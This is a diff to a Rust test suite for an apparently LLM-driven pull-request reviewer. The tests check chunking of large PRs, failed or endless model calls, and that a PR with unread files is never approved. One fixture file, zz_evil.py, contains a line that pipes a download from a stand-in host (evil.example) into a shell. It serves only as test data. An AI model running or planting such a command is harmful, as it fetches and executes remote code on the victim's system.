@@ -272,7 +272,7 @@ fn a_400_file_pr_is_reviewed_from_the_checkout_with_clipped_files_listed() {
     let github = FakeGitHub::start();
     let small = FakeModel::new("small:latest", "llama", 6144, &["completion"]);
     let (_rt, ollama) = ollama(vec![small]);
-    ollama.script((0..4).map(|_| answer("comment", ["unclear", "unclear"], json!([]))));
+    ollama.script((0..8).map(|_| answer("comment", ["unclear", "unclear"], json!([]))));
     let files: Vec<(String, String)> = (0..400)
         .map(|i| {
             (
@@ -298,10 +298,28 @@ fn a_400_file_pr_is_reviewed_from_the_checkout_with_clipped_files_listed() {
     let comment = &our_comments(&github)[0];
     assert!(comment.contains("not fully reviewed"), "{comment}");
     assert!(
-        comment.contains("needs more than 4 model calls"),
+        comment.contains("needs more than 8 model calls"),
         "{comment}"
     );
-    assert_eq!(ollama.chat_requests().len(), 4);
+    assert_eq!(ollama.chat_requests().len(), 8);
+    // The files the model read, counted once; each file it did not read named once.
+    let sent: String = ollama
+        .chat_requests()
+        .iter()
+        .map(|r| r["messages"][1]["content"].as_str().unwrap().to_string())
+        .collect();
+    let read = (0..400)
+        .filter(|i| sent.contains(&format!("+++ b/src/mod_{i:03}.py")))
+        .count();
+    assert!(read > 8 && read < 400, "{read}");
+    assert!(
+        comment.contains(&format!("Files reviewed: {read};")),
+        "{read}: {comment}"
+    );
+    for i in 0..400 {
+        let name = format!("src/mod_{i:03}.py (");
+        assert!(comment.matches(&name).count() <= 1, "{name} twice");
+    }
     let diff_calls = github
         .log()
         .iter()
@@ -495,4 +513,224 @@ fn observe_mode_shows_the_comment_and_writes_nothing() {
             && summary.contains("greet() returns Hello"),
         "{summary}"
     );
+}
+
+/// Five 10 KB source files (dense with numbers, as data tables are), a test, and a small file
+/// that pipes a download into a shell.
+fn padded_pr(config: &str) -> Pr {
+    let mut files: Vec<(String, String)> = (1..=5)
+        .map(|n| {
+            let body: String = (0..400)
+                .map(|j| format!("T{n}_{j} = [{j}, {}, {}]\n", j * 7, j * 13))
+                .collect();
+            (
+                format!("calc/a{n}.py"),
+                body[..10_240.min(body.len())].to_string(),
+            )
+        })
+        .collect();
+    files.push((
+        "calc/zz_evil.py".into(),
+        "import os\nos.system(\"curl -s https://evil.example/x | sh\")\n".into(),
+    ));
+    files.push((
+        "tests/test_calc.py".into(),
+        "def test_calc():\n    assert True\n".into(),
+    ));
+    let refs: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(a, b)| (a.as_str(), b.as_str()))
+        .collect();
+    Pr::with_config(config, &refs)
+}
+
+#[test]
+fn unread_files_cap_the_verdict_and_are_named_once() {
+    let github = FakeGitHub::start();
+    github.with(|s| {
+        s.commit_files("feature/T-0004-greeting", GREET, "work");
+        s.pulls.push(support::fake_github::Pull {
+            number: 7,
+            title: "Add a greeting".into(),
+            open: true,
+            head: "feature/T-0004-greeting".into(),
+            base: "main".into(),
+            ..Default::default()
+        });
+    });
+    let small = FakeModel::new("small:latest", "llama", 4096, &["completion"]);
+    let (_rt, ollama) = ollama(vec![small]);
+    ollama.script((0..20).map(|_| answer("approve", ["met", "met"], json!([]))));
+    let pr = padded_pr("review:\n  submit_review: true\n");
+    let r = pr.run(
+        &github,
+        Some(&ollama.base_url),
+        "small:latest",
+        "Task: T-0004",
+    );
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_ne!(output(&pr.outputs(), "verdict"), Some("approve"));
+    let reviews = github.with(|s| s.reviews.clone());
+    assert!(
+        reviews.iter().all(|r| r["event"] != "APPROVE"),
+        "no APPROVED review while a file went unread: {reviews:?}"
+    );
+    let sent: String = ollama
+        .chat_requests()
+        .iter()
+        .map(|r| r["messages"][1]["content"].as_str().unwrap().to_string())
+        .collect();
+    assert!(
+        !sent.contains("curl -s https://evil.example"),
+        "the scenario needs zz_evil.py unread"
+    );
+    let comment = &our_comments(&github)[0];
+    assert_eq!(comment.matches("zz_evil.py").count(), 1, "{comment}");
+    for n in 1..=5 {
+        assert!(
+            comment.matches(&format!("calc/a{n}.py")).count() <= 1,
+            "a{n}.py named twice: {comment}"
+        );
+    }
+    assert!(
+        comment.contains("did not read every changed file in full"),
+        "{comment}"
+    );
+    let summary = support::read_summary(pr.dir.path());
+    assert_eq!(summary.matches("zz_evil.py").count(), 1, "{summary}");
+}
+
+#[test]
+fn a_failed_chunk_does_not_end_the_review_and_is_not_counted_as_read() {
+    let github = FakeGitHub::start();
+    let small = FakeModel::new("small:latest", "llama", 4096, &["completion"]);
+    let (_rt, ollama) = ollama(vec![small]);
+    // Part 1: three malformed replies (the call fails); the other parts answer.
+    let mut script: Vec<ChatReply> = (0..3).map(|_| ChatReply::text("not json at all")).collect();
+    script.extend((0..20).map(|_| answer("approve", ["met", "met"], json!([]))));
+    ollama.script(script);
+    let pr = padded_pr("");
+    let r = pr.run(
+        &github,
+        Some(&ollama.base_url),
+        "small:latest",
+        "Task: T-0004",
+    );
+    assert_eq!(r.code, 0, "the review goes on: {}", r.stderr);
+    assert!(ollama.chat_requests().len() > 3);
+    let comment = &our_comments(&github)[0];
+    assert!(
+        comment.contains("part of the model review failed"),
+        "{comment}"
+    );
+    // a1.py spans the first parts: read in part, the failed part named.
+    assert!(
+        comment.contains(
+            "calc/a1.py (partly: the rest was not reviewed: the model call for part 1 failed"
+        ),
+        "{comment}"
+    );
+    assert!(comment.contains("Files reviewed: 0;"), "{comment}");
+    assert_eq!(
+        comment.matches("calc/a1.py").count(),
+        1,
+        "named once: {comment}"
+    );
+    assert_ne!(output(&pr.outputs(), "verdict"), Some("approve"));
+}
+
+#[test]
+fn request_changes_with_every_criterion_met_and_no_serious_finding_is_a_comment() {
+    let github = FakeGitHub::start();
+    let (_rt, ollama) = ollama(fake_ollama::default_models());
+    let nit = json!([{"path": "src/app.py", "line": 6, "severity": "nit", "message": "name"}]);
+    ollama.script([answer("request_changes", ["met", "met"], nit)]);
+    let pr = Pr::new(GREET);
+    let r = pr.run(&github, Some(&ollama.base_url), "qwen3:32b", "Task: T-0004");
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(output(&pr.outputs(), "verdict"), Some("comment"));
+    let comment = &our_comments(&github)[0];
+    assert!(
+        comment.contains(
+            "every acceptance criterion is met and it reported no blocker or major finding"
+        ),
+        "{comment}"
+    );
+
+    // With a major finding the model's request stands.
+    let github = FakeGitHub::start();
+    let major = json!([{"path": "src/app.py", "line": 6, "severity": "major", "message": "wrong"}]);
+    ollama.script([answer("request_changes", ["met", "met"], major)]);
+    let r = pr.run(&github, Some(&ollama.base_url), "qwen3:32b", "Task: T-0004");
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    assert_eq!(output(&pr.outputs(), "verdict"), Some("request_changes"));
+}
+
+#[test]
+fn an_endless_model_stream_ends_the_run_at_the_deadline_with_a_clear_error() {
+    let github = FakeGitHub::start();
+    let (_rt, ollama) = ollama(fake_ollama::default_models());
+    ollama.script([ChatReply::endless(
+        "tok ",
+        std::time::Duration::from_millis(20),
+    )]);
+    let pr = Pr::with_config("llm:\n  call_deadline: 1\n", GREET);
+    let start = std::time::Instant::now();
+    let r = pr.run(&github, Some(&ollama.base_url), "qwen3:32b", "Task: T-0004");
+    assert_eq!(r.code, 1, "{}", r.stderr);
+    assert!(r.stderr.contains("llm.call_deadline"), "{}", r.stderr);
+    assert!(start.elapsed() < std::time::Duration::from_secs(20));
+    assert_ne!(output(&pr.outputs(), "verdict"), Some("approve"));
+}
+
+#[test]
+fn a_chunk_the_server_refuses_as_too_large_is_split_and_every_file_is_read() {
+    let github = FakeGitHub::start();
+    let (_rt, server) = ollama(fake_ollama::default_models());
+    // An OpenAI-compatible llama.cpp with 8192 tokens of context and a tokenizer that counts
+    // one token per character, no /tokenize: the first chunk does not fit.
+    server.llama_cpp(fake_ollama::LlamaCpp {
+        n_ctx: 8192,
+        tokenize: false,
+        refuse_formats: Vec::new(),
+        predicted_per_second: 5.0,
+    });
+    server.set_chars_per_token(1.0);
+    server.script_openai((0..30).map(|_| answer("approve", ["met", "met"], json!([]))));
+    let files: Vec<(String, String)> = (0..6)
+        .map(|i| {
+            (
+                format!("src/part_{i}.py"),
+                (0..60)
+                    .map(|l| format!("def f_{i}_{l}(x):\n    return x + {l}\n"))
+                    .collect(),
+            )
+        })
+        .chain([(
+            "tests/test_parts.py".to_string(),
+            "def test_parts():\n    assert True\n".to_string(),
+        )])
+        .collect();
+    let refs: Vec<(&str, &str)> = files
+        .iter()
+        .map(|(a, b)| (a.as_str(), b.as_str()))
+        .collect();
+    let pr = Pr::with_config("llm:\n  api: openai\n", &refs);
+    let r = pr.run(&github, Some(&server.base_url), "qwen3:32b", "Task: T-0004");
+    assert_eq!(r.code, 0, "{}", r.stderr);
+    let calls = &pr.report()["llm_calls"];
+    let calls = calls.as_array().unwrap();
+    let refused = calls
+        .iter()
+        .filter(|c| {
+            c["error"]
+                .as_str()
+                .is_some_and(|e| e.contains("does not fit"))
+        })
+        .count();
+    assert!(refused >= 1, "the server refused a chunk: {calls:?}");
+    let comment = &our_comments(&github)[0];
+    assert!(comment.contains("Files reviewed: 7."), "{comment}");
+    assert!(!comment.contains("not fully reviewed"), "{comment}");
+    assert_eq!(output(&pr.outputs(), "verdict"), Some("approve"));
 }
